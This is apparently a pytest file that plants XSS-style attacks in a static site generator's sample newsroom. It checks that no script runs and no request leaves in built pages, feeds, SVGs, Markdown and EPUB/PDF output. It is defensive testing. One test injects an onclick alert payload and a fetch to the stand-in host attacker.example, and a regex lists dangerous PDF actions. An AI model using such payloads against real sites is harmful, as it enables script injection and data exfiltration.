"""Attacks in every text of a newsroom: nothing runs, nothing leaves, nothing of them is markup.

`python tests/attacks` does the same with many more, in all files of many sites.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import markup
import pypdfium2
import pytest
from attacking import VECTORS, Attacked, attacked, free_texts
from click.testing import CliRunner
from opening import Opened
from playwright.sync_api import Browser

import as_markdown
import epub
from explainer.cli import main

NEWSROOM = Path(__file__).parents[1] / "newsroom"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    return attacked(tmp_path_factory.mktemp("attacked") / "newsroom", NEWSROOM, 0)


@pytest.fixture(scope="module")
def folder(site: Attacked, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The newsroom with attacks in it, built."""
    output = tmp_path_factory.mktemp("opened") / "site"
    result = CliRunner().invoke(main, ["build", "--root", str(site.root), "--output", str(output)])
    assert result.exit_code == 0, result.output
    return output


@pytest.fixture
def opened(folder: Path, browser: Browser) -> Opened:
    return Opened(folder, browser)


def test_attacks_stand_in_most_texts(site: Attacked) -> None:
    assert site.tried > len(VECTORS)
    assert site.refused < site.tried / 2


def test_every_field_in_which_an_editor_is_free_is_attacked(site: Attacked) -> None:
    assert free_texts() - {one.of for one in site.fields} == set()


def test_nothing_of_an_attack_is_markup(folder: Path, built: Path) -> None:
    ours = markup.kinds(built) | markup.MARKDOWN

    assert list(markup.faults(folder, ours)) == []


def test_books_hold_attacks_as_texts_alone(folder: Path) -> None:
    (book,) = folder.rglob("crossing-talks.epub")
    checked = epub.checked(book)
    assert checked == ""

    sheets = pypdfium2.PdfDocument(book.with_suffix(".pdf"))
    text = "".join(sheet.get_textpage().get_text_range() for sheet in sheets)
    assert "alert" in text
    written = book.with_suffix(".pdf").read_bytes()
    assert not re.search(rb"/(JavaScript|JS|Launch|EmbeddedFile|SubmitForm|GoToR)\b", written)
    ways = re.findall(rb"/URI ?\(([^)]*)", written)
    assert all(way.startswith((b"http://", b"https://", b"mailto:")) for way in ways)


def test_nothing_of_an_attack_is_markup_in_markdown(folder: Path) -> None:
    files = sorted(folder.rglob("index.md"))
    assert files
    assert [found for file in files for found in as_markdown.markup(file)] == []


def test_nothing_runs_and_nothing_leaves_in_a_page_of_each_kind(opened: Opened) -> None:
    kinds = json.loads((opened.folder / "build.json").read_text("utf-8"))["kind_of_page"]
    # One that forwards is two when it is opened: the other is opened by itself.
    first = {kind: address for address, kind in reversed(kinds.items()) if kind != "moved"}

    opened.all(first.values())

    assert opened.files == len(first)
    assert opened.faults == []


def test_nothing_runs_in_drawings_and_feeds(opened: Opened) -> None:
    found = {path.suffix: path for path in sorted(opened.folder.rglob("*"))}
    assert {".svg", ".xml", ".json"} <= found.keys()

    opened.all(found[end].relative_to(opened.folder).as_posix() for end in (".svg", ".xml"))

    assert opened.faults == []


def test_nothing_runs_where_scripts_write_what_was_typed(opened: Opened) -> None:
    assert opened.search("alert")
    opened.explore("articles/crossing-talks/")

    assert opened.faults == []


def test_what_runs_or_leaves_would_be_seen(opened: Opened) -> None:
    context = opened.context()
    page = context.new_page()
    opened.visit(page, "about/")
    page.evaluate("""() => new Promise((done) => {
      addEventListener("securitypolicyviolation", () => done());
      document.body.insertAdjacentHTML("beforeend", "<b onclick='alert(1)'>x</b>");
      document.body.lastChild.click(); })""")
    opened.look(page)
    page.evaluate("fetch('https://attacker.example/').catch(() => null)")
    context.close()

    assert any("alert(1)" in fault for fault in opened.faults)
    assert any("left: https://attacker.example/" in fault for fault in opened.faults)
